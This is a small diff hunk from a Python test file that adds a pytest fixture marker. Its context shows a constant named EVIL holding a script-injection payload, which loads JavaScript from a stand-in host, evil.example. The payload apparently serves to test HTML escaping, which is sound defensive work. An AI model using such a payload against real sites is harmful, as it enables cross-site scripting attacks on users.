@@ -32,6 +32,8 @@ from hptui.storage.read.study_reader import StudyReader
 if TYPE_CHECKING:
     from pathlib import Path
 
+pytestmark = pytest.mark.usefixtures("clones_programs")
+
 
 EVIL = '</script><script src="https://evil.example/x.js"></script><a href="https://evil.example">x'
 
